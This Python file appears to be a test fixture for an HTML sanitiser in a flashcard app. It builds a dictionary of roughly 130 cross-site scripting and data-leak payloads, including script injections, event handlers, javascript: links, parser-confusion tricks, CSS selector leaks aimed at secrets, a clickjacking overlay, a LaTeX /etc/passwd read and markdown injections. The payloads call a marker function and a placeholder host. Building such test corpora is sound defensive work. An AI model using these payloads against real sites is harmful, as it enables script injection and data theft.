"""Markup that wants to run, or to reach another server. `HIT(name)` is what it calls if it can."""

from __future__ import annotations

import base64

ELSEWHERE = "https://elsewhere.invalid"


def _code(name: str) -> str:
    return f"HIT('{name}')"


def _encoded(name: str) -> str:
    page = f"<script>parent.HIT('{name}')</script>"
    return base64.b64encode(page.encode()).decode()


_SHAPES = {
    # Elements that run by themselves.
    "script": "<script>CODE</script>",
    "script-mixed-case": "<ScRiPt>CODE</sCrIpT>",
    "script-from-elsewhere": "<script src='ELSEWHERE/NAME.js'></script>",
    "script-in-script": "<scr<script>ipt>CODE</scr</script>ipt>",
    "script-unclosed": "<script>CODE//",
    "script-after-nul": "<scr\0ipt>CODE</scr\0ipt>",
    "script-module": "<script type=module>CODE</script>",
    "script-in-comment": "<!--><script>CODE</script>-->",
    "script-in-cdata": "<![CDATA[><script>CODE</script>]]>",
    "script-escaped": "&lt;script&gt;CODE&lt;/script&gt;",
    "script-twice-escaped": "&amp;lt;script&amp;gt;CODE&amp;lt;/script&amp;gt;",
    # Handlers of events.
    "image-error": "<img src=x onerror=\"CODE\">",
    "image-error-slashes": "<img/src='x'/onerror=CODE>",
    "image-load": "<img src='data:image/gif;base64,R0lGODlhAQABAAAAACw=' onload=CODE>",
    "image-name": "<img src=\"x' onerror='CODE\">",
    "image-lines": "<img src=x\nonerror\n=\nCODE>",
    "image-backtick": "<img src=`x`onerror=CODE>",
    "svg-load": "<svg onload=CODE></svg>",
    "svg-script": "<svg><script>CODE</script></svg>",
    "svg-animate": "<svg><animate onbegin=CODE attributeName=x dur=1s></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml;base64,ENCODED#x'></use></svg>",
    "svg-link": "<svg><a xlink:href='javascript:CODE'><text y=20>NAME</text></a></svg>",
    "svg-foreign": "<svg><foreignObject><iframe srcdoc='<script>parent.CODE</script>'>",
    "body-load": "<body onload=CODE>",
    "body-elsewhere": "<body background='ELSEWHERE/NAME.png'>",
    "input-focus": "<input autofocus onfocus=CODE>",
    "details-toggle": "<details open ontoggle=CODE>x</details>",
    "marquee": "<marquee onstart=CODE>x</marquee>",
    "video-error": "<video><source onerror=CODE></video>",
    "audio-error": "<audio src=x onerror=CODE></audio>",
    "animation": "<p style='animation: spin 1s' onanimationstart=CODE>x</p>",
    "transition": "<a id=x tabindex=1 style='transition: 1s' ontransitionend=CODE>x</a>",
    "pointer": "<p onpointerover=CODE onpointerrawupdate=CODE onmousemove=CODE>over here</p>",
    "content-visibility": (
        "<p oncontentvisibilityautostatechange=CODE "
        "style='content-visibility:auto'>"
    ),
    # Frames and plugins.
    "frame-script": "<iframe src='javascript:parent.CODE'></iframe>",
    "frame-document": "<iframe srcdoc=\"<script>parent.CODE</script>\"></iframe>",
    "frame-data": "<iframe src='data:text/html;base64,ENCODED'></iframe>",
    "frame-elsewhere": "<iframe src='ELSEWHERE/NAME'></iframe>",
    "object": "<object data='data:text/html;base64,ENCODED'></object>",
    "object-elsewhere": "<object data='ELSEWHERE/NAME'></object>",
    "embed": "<embed src='data:text/html;base64,ENCODED'>",
    "frameset": "<frameset onload=CODE><frame src='ELSEWHERE/NAME'></frameset>",
    "portal": "<portal src='ELSEWHERE/NAME'></portal>",
    # Addresses that are code; each is clicked, too.
    "link-code": "<a href='javascript:CODE'>NAME</a>",
    "link-code-spaced": "<a href=' \t java\nscript:CODE'>NAME</a>",
    "link-code-encoded": "<a href='&#106;avascript&colon;CODE'>NAME</a>",
    "link-code-control": "<a href='\x01javascript:CODE'>NAME</a>",
    "link-data": "<a href='data:text/html;base64,ENCODED'>NAME</a>",
    "link-vbscript": "<a href='vbscript:CODE'>NAME</a>",
    "link-blob": "<a href='blob:ELSEWHERE/NAME'>NAME</a>",
    "link-ping": "<a href='#x' ping='ELSEWHERE/NAME'>NAME</a>",
    "form-action": "<form action='javascript:CODE'><button>NAME</button></form>",
    "form-elsewhere": "<form action='ELSEWHERE/NAME'><input name=csrf_token></form>",
    "button-action": "<button formaction='javascript:CODE'>NAME</button>",
    "area-code": "<map name=m><area href='javascript:CODE' shape=default></map><img usemap=#m>",
    "base": "<base href='ELSEWHERE/'>",
    "meta-refresh": "<meta http-equiv=refresh content='0;url=ELSEWHERE/NAME'>",
    "meta-code": "<meta http-equiv=refresh content='0;url=javascript:CODE'>",
    "meta-policy": (
        "<meta http-equiv=Content-Security-Policy content=\"script-src "
        "'unsafe-inline'\">"
    ),
    # Styles that phone home.
    "style-import": "<style>@import url(ELSEWHERE/NAME.css);</style>",
    "style-background": "<style>body{background:url(ELSEWHERE/NAME.png)}</style>",
    "style-attribute": "<p style=\"background:url('ELSEWHERE/NAME.png')\">x</p>",
    "style-list": "<ul style='list-style:url(ELSEWHERE/NAME.png)'><li>x</ul>",
    "style-font": (
        "<style>@font-face{font-family:x;src:url(ELSEWHERE/NAME.woff)"
        "}p{font-family:x}</style>"
    ),
    "style-secrets": "<style>input[value^='a']{background:url(ELSEWHERE/NAME-a)}</style>",
    "style-cover": "<p style='position:fixed;inset:0;z-index:9999'>Sign in again</p>",
    "link-style": "<link rel=stylesheet href='ELSEWHERE/NAME.css'>",
    "link-prefetch": (
        "<link rel=prefetch href='ELSEWHERE/NAME'><link rel=dns-prefetch "
        "href='ELSEWHERE'>"
    ),
    "link-preload": "<link rel=preload as=image href='ELSEWHERE/NAME.png'>",
    # Pictures and sounds elsewhere.
    "picture-elsewhere": "<img src='ELSEWHERE/NAME.png'>",
    "picture-set": "<img srcset='ELSEWHERE/NAME.png 1x, ELSEWHERE/NAME2.png 2x'>",
    "picture-source": "<picture><source srcset='ELSEWHERE/NAME.png'><img alt=x></picture>",
    "picture-relative": "<img src='//elsewhere.invalid/NAME.png'>",
    "picture-backslash": "<img src='/\\elsewhere.invalid/NAME.png'>",
    "picture-sign-out": "<img src='/sign-out'>",
    "film-poster": "<video poster='ELSEWHERE/NAME.png' src='ELSEWHERE/NAME.mp4' autoplay></video>",
    "sound-elsewhere": "<audio src='ELSEWHERE/NAME.mp3' autoplay></audio>",
    "sound-anki": "[sound:ELSEWHERE/NAME.mp3]",
    "track": "<video><track default src='ELSEWHERE/NAME.vtt'></video>",
    # What a parser reads otherwise the second time.
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=CODE>\"></noscript>",
    "math-style": (
        "<math><mtext><table><mglyph><style><!--</style><img "
        "title=\"--&gt;&lt;img src=1 onerror=CODE&gt;\">"
    ),
    "svg-style": "<svg></p><style><a id=\"</style><img src=1 onerror=CODE>\">",
    "form-in-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=CODE>",
    "title": "<title><img src=x onerror=CODE></title>",
    "textarea": "</textarea><img src=x onerror=CODE>",
    "template": "<template><img src=x onerror=CODE></template>",
    "xmp": "<xmp><p title='</xmp><img src=x onerror=CODE>'></xmp>",
    "select": "<select><template><img src=x onerror=CODE>",
    "attribute-end": "\"><img src=x onerror=CODE>",
    "attribute-end-single": "'><img src=x onerror=CODE>",
    "script-end": "</script><script>CODE</script>",
    "json-end": "</script><!--<script>CODE",
    "template-engine": "{{ ''.__class__ }}{% raw %}<img src=x onerror=CODE>",
    "template-literal": "${CODE}`+CODE+`",
    "u2028": "\u2028</p><img src=x onerror=CODE>\u2029",
    # Names that pages use themselves.
    "clobber": "<a id=csrf_token></a><form id=body name=cookie><input name=parentNode></form>",
    "controller": (
        "<div data-controller=review data-action='CODE' "
        "data-src='ELSEWHERE/NAME'>x</div>"
    ),
    # Maths and code.
    "maths-link": "\\(\\href{javascript:CODE}{NAME}\\)",
    "maths-html": "\\(\\text{<img src=x onerror=CODE>}\\)",
    "maths-end": "\\(x</math><img src=x onerror=CODE>\\)",
    "maths-style": "\\(\\style{background:url(ELSEWHERE/NAME)}{x}\\)",
    "maths-class": "\\(\\class{x\" onmouseover=\"CODE}{y}\\)",
    "maths-include": "\\(\\includegraphics{ELSEWHERE/NAME.png}\\)",
    "maths-require": "\\(\\require{html}\\htmlId{x}{y}\\def\\x{\\x\\x}\\x\\)",
    "maths-mathml": (
        "<math><maction actiontype='statusline#CODE' "
        "xlink:href='javascript:CODE'>x</maction></math>"
    ),
    "maths-link-mathml": "<math href='javascript:CODE'><mi>NAME</mi></math>",
    "maths-annotation": (
        "<math><annotation-xml encoding='text/html'><img src=x "
        "onerror=CODE></annotation-xml></math>"
    ),
    "latex": "[latex]\\input{/etc/passwd}<img src=x onerror=CODE>[/latex]",
    "latex-dollars": "[$]</math><script>CODE</script>[/$]",
    "code-block": (
        "<pre><code class='language-\"><img src=x "
        "onerror=CODE>'><script>CODE</script></code></pre>"
    ),
    # Clozes and hints.
    "cloze-text": "{{c1::<img src=x onerror=CODE>}}",
    "cloze-hint": "{{c1::a::<img src=x onerror=CODE>}}",
    "cloze-hint-quote": "{{c1::a::\" onmouseover=\"CODE}}",
    "cloze-split": "<img src={{c1::x onerror=CODE}}>",
    "cloze-over-tags": "<a href='{{c1::javascript:CODE}}'>NAME</a>",
    # What our own renderer leaves for itself on the way.
    "inner-maths": "<code class='maths-inline'>\\text{</code><img src=x onerror=CODE>}</code>",
    "inner-sound": "<code class='sound'>x&quot; onerror=&quot;CODE</code>",
    "inner-masks": "<code class='occlusion'>rect&quot; onload=&quot;CODE</code><img src=p.png>",
    "masks": "{{c1::image-occlusion:rect:left=.1\" onload=\"CODE:top=.2:width=.1:height=.1}}",
    "masks-text": "{{c1::image-occlusion:text:left=.1:top=.1:text=<script>CODE</script>}}",
    "masks-fill": "{{c1::image-occlusion:rect:left=0:top=0:width=1:height=1:fill=url(ELSEWHERE)}}",
    "masks-points": "{{c1::image-occlusion:polygon:points=0,0 1,1\"/><script>CODE</script>}}",
    "style-colour": "<span style='color:red;background-image:url(ELSEWHERE/NAME.png)'>x</span>",
    "style-emphasis": "<b style='font-weight:bold;x:expression(CODE);y:url(ELSEWHERE)'>x</b>",
    "style-code": "<pre><span style='color:#00f' class='k\" onclick=\"CODE'>x</span></pre>",
    # Markdown.
    "markdown-link": "[NAME](javascript:CODE)",
    "markdown-link-entity": "[NAME](java&#115;cript:CODE)",
    "markdown-link-title": "[NAME](x \"' onmouseover='CODE\")",
    "markdown-image": "![x](ELSEWHERE/NAME.png)",
    "markdown-image-quote": "![x\" onerror=\"CODE](x.png)",
    "markdown-reference": "[NAME][r]\n\n[r]: javascript:CODE",
    "markdown-autolink": "<javascript:CODE>",
    "markdown-fence": "```html\" onmouseover=\"CODE\n<script>CODE</script>\n```",
    "markdown-attributes": "x{: onmouseover=CODE style='background:url(ELSEWHERE/NAME)'}",
    "markdown-maths": "$$\\text{</math><script>CODE</script>}$$",
    "markdown-diagram": (
        "```mermaid\ngraph TD; a[\"<img src=x onerror=CODE>\"]; click a "
        "\"javascript:CODE\"\n```"
    ),
}  # fmt: skip

PAYLOADS: dict[str, str] = {
    name: shape.replace("CODE", _code(name))
    .replace("ENCODED", _encoded(name))
    .replace("ELSEWHERE", ELSEWHERE)
    .replace("NAME", name)
    for name, shape in _SHAPES.items()
}
